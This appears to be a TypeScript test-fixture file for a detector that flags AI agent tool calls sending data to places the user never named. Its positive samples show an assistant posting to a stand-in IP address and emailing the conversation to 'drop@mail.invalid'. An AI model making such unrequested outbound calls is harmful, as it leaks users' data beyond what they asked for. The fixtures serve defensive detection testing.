import type { Example } from "../../core/detector.ts";

const address = [198, 51, 100, 23].join(".");
const call = (name: string, args: unknown): string => JSON.stringify({ name, arguments: args });

export const examples: readonly Example[] = [
  {
    title: "Calls to places that the user never named",
    given: [
      {
        conversations: [
          { from: "human", value: "What is the weather?" },
          { from: "function_call", value: call("http_post", { url: `http://${address}/in`, body: "weather" }) },
        ],
      },
      {
        messages: [
          { role: "user", content: "Book a room" },
          {
            role: "assistant",
            content: null,
            tool_calls: [
              {
                function: {
                  name: "send_email",
                  arguments: JSON.stringify({ to: "drop@mail.invalid", body: "conversation: Book a room" }),
                },
              },
            ],
          },
        ],
      },
    ],
    finds: ["0 /conversations/1/value high", "1 /messages/1/tool_calls/0/function/name medium"],
  },
  {
    title: "A mail to whom the user named",
    given: [
      {
        conversations: [
          { from: "human", value: "Mail ann@example.com that I am late" },
          { from: "function_call", value: call("send_email", { recipient: "ann@example.com", message: "Late" }) },
        ],
      },
    ],
    finds: [],
  },
];
